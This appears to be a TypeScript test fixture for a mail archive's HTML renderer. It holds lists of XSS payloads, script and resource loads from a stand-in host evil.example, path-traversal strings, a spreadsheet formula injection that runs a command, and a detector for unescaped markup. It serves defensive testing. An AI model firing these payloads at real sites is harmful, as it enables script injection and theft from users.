/** Words that a stranger may put into any field of a mail. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title></textarea></style><script>alert(1)</script>',
  'javascript:alert(1)',
  'https://a.example/"onmouseover=alert(1)//',
  'http://a.example/<img/src=x/onerror=alert(1)>',
  'a@a.example?]<img/src=x/onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></p><style><img title="</style><img src onerror=alert(1)>">',
  '\u202egpj.exe\u2066',
  'nul \0 bell \u0007 escape \u001b[31m',
  '\ud800 half a pair \u2028 \u2029 \ufeff',
  'x'.repeat(400),
  '../../../../etc/passwd',
  '..',
  '%2e%2e%2f',
  "=cmd|'/C calc'!A0",
];

/** Ends of whatever a payload may stand in. */
const ENDS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  '</script>',
  '</bdi></q></p>',
  '`>',
  '" ',
  "' ",
];
/** Markup that acts without anybody's doing, or when it is touched. */
const ACTS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/x.png>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<object data=//evil.example/x></object>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/y.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  'onerror=alert(1) x=',
];
/** All payloads, and each act behind each end. */
export const MANY_PAYLOADS: readonly string[] = [
  ...PAYLOADS,
  ...ENDS.flatMap((end) => ACTS.map((act) => `${end}${act}`)),
];

/** One payload after the other, beginning with the `start`th. */
export function inTurn(start: number, payloads: readonly string[] = PAYLOADS): () => string {
  let next = start;
  return () => payloads[next++ % payloads.length] ?? '';
}

/** Fields that hold codes of ours rather than words of mail. */
const CODES = new Set([
  'page',
  'kind',
  'state',
  'outcome',
  'position',
  'role',
  'status',
  'type',
  'basis',
  'marks',
  'date',
  'posted',
  'lastActivity',
  'since',
  'newest',
  'started',
  'finished',
  'code',
]);

/** The same page object with `payload` in every field that mail can fill; a function gives each field its own. */
export function infect<T>(value: T, payload: string | (() => string), field = ''): T {
  if (typeof value === 'string') {
    if (CODES.has(field)) return value;
    return (typeof payload === 'string' ? payload : payload()) as T;
  }
  if (Array.isArray(value)) return value.map((item) => infect(item, payload, field)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, infect(item, payload, key)]),
  ) as T;
}

/** Elements of ours that may stand in a page, whatever mail says. */
const OWN_TAGS = new Set(
  (
    'html head meta title link body svg symbol circle path use a header nav main h1 h2 h3 p span b i br table thead tbody tr ' +
    'th td ul ol li section div bdi code time details summary blockquote footer q dl dt dd article small pre kbd script search form label input mark g line text rect'
  ).split(' '),
);

/** What stands in a page of ours and cannot be from us; empty where every word of mail stayed a word. */
export function foreignMarkup(html: string): string[] {
  const tags = [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)];
  const strange = tags.filter(
    ([, name = '', attributes = '']) =>
      !OWN_TAGS.has(name) || /\s(?:on\w+|style|srcdoc)=/.test(attributes.replace(/"[^"]*"/g, '""')),
  );
  const links = html.match(/href="(?!\/|#|https?:|mailto:)[^"]*"/g) ?? [];
  const scripts = html.split('<script').slice(2);
  const obeyed = html.match(/(?![\t\n])[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069\u2028\u2029]/gu) ?? [];
  return [...strange.map(([tag]) => tag), ...links, ...scripts, ...obeyed];
}
